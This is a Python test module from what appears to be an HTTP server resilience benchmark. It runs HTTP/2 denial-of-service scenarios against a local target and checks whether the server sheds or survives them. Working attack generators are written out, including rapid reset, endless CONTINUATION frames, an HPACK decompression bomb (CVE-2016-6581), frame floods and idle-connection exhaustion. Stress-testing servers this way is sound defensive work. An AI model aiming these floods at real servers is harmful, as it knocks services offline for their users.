"""HTTP/2: floods of each kind of frame, header blocks that cost much, windows that stay closed, many small messages, idle connections."""

from __future__ import annotations

import concurrent.futures
import json
import struct
import time
from collections.abc import Iterator

import rig as bench
from attack import h2, traffic
from attack.arena import Target
from attack.scenario import Bounds, Scenario, beside, cpu_seconds_max, not_far_from_peers

FLOODERS = 10
BLOCK_BYTES = 65536
FIELDS = 4000
PIECE, PIECES, QUICK_PIECES = b"0123456789", 50_000, 5_000
IDLE, QUICK_IDLE = 9_000, 2_000
IDLE_KIB_MAX = 6
IDLE_SECONDS = 3  # after which what idle connections keep is weighed


def flood(blocks):
    return lambda target, seconds: traffic.flood(target.http2_port, seconds, FLOODERS, blocks)


def same(*frames: bytes):
    """These frames, over and over, behind an opening and one open request body on stream 1."""
    unit = b"".join(frames)

    def blocks() -> Iterator[bytes]:
        yield h2.opening() + h2.request(1, "/attack/echo", "POST", end=False)
        block = unit * max(1, BLOCK_BYTES // len(unit))
        while True:
            yield block

    return blocks


def rapid_reset() -> Iterator[bytes]:
    yield h2.opening()
    cancel = struct.pack(">I", 8)
    for first in range(1, 1 << 30, 1000):
        streams = range(first, first + 1000, 2)
        yield b"".join(h2.request(number, "/attack/json/valid") + h2.frame(h2.RST_STREAM, 0, number, cancel) for number in streams)


def endless_continuation() -> Iterator[bytes]:
    yield h2.opening() + h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.request_block("/attack/json/valid"))
    filler = h2.frame(h2.CONTINUATION, 0, 1, h2.field("a", "b" * 100) * 8)
    while True:
        yield filler * 64


def blocks_of_fields(fields: bytes):
    """Requests whose header block is this behind the ordinary fields, in as many frames as it takes."""

    def blocks() -> Iterator[bytes]:
        yield h2.opening()
        whole = h2.request_block("/attack/json/valid") + fields
        pieces = [whole[at : at + h2.FRAME_BYTES_MAX] for at in range(0, len(whole), h2.FRAME_BYTES_MAX)]
        for number in range(1, 1 << 30, 2):
            frames = [h2.frame(h2.HEADERS, h2.END_STREAM | (0 if pieces[1:] else h2.END_HEADERS), number, pieces[0])]
            frames += [h2.frame(h2.CONTINUATION, 0, number, piece) for piece in pieces[1:-1]]
            frames += [h2.frame(h2.CONTINUATION, h2.END_HEADERS, number, piece) for piece in pieces[1:][-1:]]
            yield b"".join(frames)

    return blocks


PRIORITIES = [h2.frame(h2.PRIORITY, 0, number, struct.pack(">IB", 0, 7)) for number in range(3, 401, 2)]
# One literal of 4,000 bytes that enters the table, and 4,000 references to it, a byte each: 16 MB of fields in 8 KB (CVE-2016-6581).
BOMB = b"\x40" + h2.text("a") + h2.text("b" * 4000) + b"\xbe" * FIELDS


def closed_windows(target: Target, seconds: float) -> dict:
    """Half of the connections have closed stream windows, the others open streams on a closed window of the connection."""
    turn = iter(range(1 << 30))

    def blocks() -> Iterator[bytes]:
        window = 0 if next(turn) % 2 else (1 << 31) - 1
        yield h2.opening({h2.INITIAL_WINDOW_SIZE: window})
        yield b"".join(h2.request(number, "/attack/size/10m") for number in range(1, 401, 2))

    return traffic.flood(target.http2_port, seconds, 20, blocks)


def small_messages(target: Target, seconds: float) -> dict:
    """Eight clients that keep to every rule send a body in frames of ten bytes: all must be served."""
    count = QUICK_PIECES if target.quick else PIECES

    def client(_: int) -> str:
        try:
            status, body = h2.Connection(target.http2_port, timeout=40).post_in_pieces("/attack/echo", PIECE, count)
        except OSError as error:
            return type(error).__name__
        whole = status == 200 and json.loads(body).get("body_bytes") == len(PIECE) * count
        return "" if whole else f"{status} {body[:60]!r}"

    began = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        outcomes = list(pool.map(client, range(8)))
    took = time.monotonic() - began
    time.sleep(max(0, seconds - took))
    bad = [outcome for outcome in outcomes if outcome]
    return {"messages": count, "streams": 8, "served": 8 - len(bad), "took_seconds": took, "troubles": sorted(set(bad))}


def idle_connections(target: Target, seconds: float) -> dict:
    count = QUICK_IDLE if target.quick else IDLE
    held = []
    for _ in range(count):
        one = h2.Connection(target.http2_port)
        one.get("/attack/json/valid")
        held.append(one)
    time.sleep(IDLE_SECONDS)
    held_mib = bench.memory_kib(target.pid) / 1024
    ports = {one.stream.getsockname()[1] for one in held}
    return {"connections": count, "held": traffic.held(target.http2_port, ports), "held_mib": held_mib}


# Verdicts -----------------------------------------------------------------------------------------------------


def sheds_or_is_cheap(ours: dict, results: dict, quick: bool) -> list[str]:
    """A flood is ended, or costs little more than it costs the peers."""
    facts = ours["facts"]
    if facts.get("open") == 0:
        return []
    most = cpu_seconds_max(ours, results)
    if ours["cpu_seconds"] <= most:
        return []
    return [f"{facts.get('open')} of {FLOODERS} floods go on and cost {ours['cpu_seconds']:.2f} s of CPU, at most {most:.2f}"]


def all_served(ours: dict, _: dict, __: bool) -> list[str]:
    facts = ours["facts"]
    return [] if facts.get("served") == facts.get("streams") else [f"{facts.get('served')} of {facts.get('streams')} streams are served"]


def light_connections(ours: dict, results: dict, __: bool) -> list[str]:
    facts = ours["facts"]
    for result in results.values():
        found = result["facts"]
        found["kib_each"] = (found.get("held_mib", 0) - result["idle_mib"]) * 1024 / max(1, found.get("connections", 1))
    kib = facts["kib_each"]
    wrong = [f"{kib:.1f} KiB for each connection, at most {IDLE_KIB_MAX}"] if kib > IDLE_KIB_MAX else []
    if facts.get("held") != facts.get("connections"):
        wrong.append(f"{facts.get('held')} of {facts.get('connections')} connections are held")
    return wrong


def scenario(name: str, title: str, attack, bounds: Bounds | None = None, **how) -> Scenario:
    return Scenario("http2", name, title, beside(attack, **how), bounds or Bounds(judge=sheds_or_is_cheap))


COST = Bounds(judge=not_far_from_peers)

SCENARIOS = [
    scenario("settings", "empty SETTINGS frames", flood(same(h2.settings()))),
    scenario("ping", "PING frames", flood(same(h2.frame(h2.PING, 0, 0, bytes(8))))),
    scenario("reset", "requests that are reset at once", flood(rapid_reset)),
    scenario("continuation", "a header block without end", flood(endless_continuation)),
    scenario("empty-data", "empty DATA frames", flood(same(h2.frame(h2.DATA, 0, 1)))),
    scenario("priority", "PRIORITY frames", flood(same(*PRIORITIES))),
    scenario("window-update", "WINDOW_UPDATE frames of one byte", flood(same(h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))),
    scenario("fields", f"header blocks of {FIELDS} fields", flood(blocks_of_fields(h2.field("a", "b") * FIELDS)), COST),
    scenario("hpack-bomb", f"header blocks of {FIELDS} references to one long field", flood(blocks_of_fields(BOMB)), COST),
    scenario("closed-windows", "20 connections x 200 streams of 10 MB that nobody reads", closed_windows,
             Bounds(after_mib_max=128), stretch=2),
    scenario("small-data", "8 honest uploads in DATA frames of 10 bytes", small_messages,
             Bounds(judge=all_served), grace=60),
    scenario("idle", f"{IDLE} idle connections, one request each", idle_connections, Bounds(judge=light_connections), grace=60),
]
